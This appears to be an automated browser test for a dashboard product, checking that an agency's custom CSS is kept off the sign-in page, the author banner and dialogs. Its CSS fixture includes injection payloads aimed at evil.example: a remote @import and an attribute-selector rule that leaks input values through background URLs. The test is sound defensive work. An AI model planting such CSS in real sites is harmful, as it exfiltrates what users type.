import { describe, expect, it } from 'vitest'
import { agentWith } from '../../support/agentWith.ts'
import { openBrowser } from '../../support/browser.ts'
import { clientWith } from '../../support/clientWith.ts'
import { takePicture } from '../../support/pictures/takePicture.ts'

const browser = openBrowser()

const customCSS = `
@import url(//evil.example/x.css);
:root { --accent-ink: rgb(1, 2, 3); letter-spacing: 2px; }
a, button, input { text-transform: uppercase; }
:not(&) { text-transform: uppercase; }
input[value^='a'] { background: url(//evil.example/a); }
* { position: fixed; }
@keyframes sway { to { opacity: 0.99; } }
@media (min-width: 1px) { a { text-indent: 3px; } }
`

describe('an agency’s own CSS', () => {
  it('styles the dashboard, but neither sign-in nor layers over it (H-081)', async () => {
    const owner = await agentWith('eu')
    const client = await clientWith(owner, { pages: ['/convos', '/leads'], brand: { customCSS } })
    const { agencyId } = await client.stored()
    await owner.call('saveTab', {
      region: 'eu',
      agencyId,
      tab: {
        label: 'Figures',
        href: '/figures',
        iconUrl: '',
        pageType: 'html',
        iframeUrl: '',
        alwaysVisible: true,
        htmlContent: '<h1>Figures</h1>',
        jsContent: '',
      },
    })
    const page = await (await browser.person()).newPage()
    const requestedUrls: string[] = []
    page.on('request', (request) => requestedUrls.push(request.url()))
    const styleOf = (selector: string) =>
      page
        .locator(selector)
        .first()
        .evaluate((element) => {
          const { textTransform, position, letterSpacing, textIndent } = getComputedStyle(element)
          return { textTransform, position, letterSpacing, textIndent }
        })
    await page.goto(`${client.origin}/login`)
    const submit = page.getByRole('button', { name: 'Sign In', exact: true })
    await submit.waitFor()
    await expect
      .poll(() => styleOf('form button'))
      .toMatchObject({ textTransform: 'none', letterSpacing: 'normal' })
    await page.getByLabel('Email').fill(client.email)
    await page.getByLabel('Password', { exact: true }).fill(client.password)
    await submit.click()
    await page.getByRole('link', { name: 'Leads' }).waitFor()
    await page.waitForFunction(() =>
      [...document.querySelectorAll('nav a')].every(
        (link) => getComputedStyle(link).textTransform === 'uppercase',
      ),
    )
    await expect
      .poll(() => styleOf('nav a'))
      .toEqual({
        textTransform: 'uppercase',
        position: 'static',
        letterSpacing: '2px',
        textIndent: '3px',
      })
    await expect.poll(() => styleOf('body')).toMatchObject({ textTransform: 'none', letterSpacing: 'normal' })
    await takePicture(page, 'client-own-css')
    // Not on the banner that names the content's author, which must stay visible.
    await page.getByRole('link', { name: 'Figures' }).click()
    await page.getByText('This content is from Harbour Desk').waitFor()
    await expect.poll(() => styleOf('nav a')).toMatchObject({ textTransform: 'none' })
    await page.getByRole('link', { name: 'Leads' }).click()
    await page.getByRole('button', { name: 'Account of Cleo Client' }).click()
    await page.getByRole('menuitem', { name: 'Account' }).click()
    await page.getByRole('dialog').getByLabel('Name').waitFor()
    await expect.poll(() => styleOf('[role=dialog] button')).toMatchObject({ textTransform: 'none' })
    expect(requestedUrls.filter((url) => url.includes('evil'))).toEqual([])
    expect(browser.errors.splice(0)).toEqual([])
  })
})
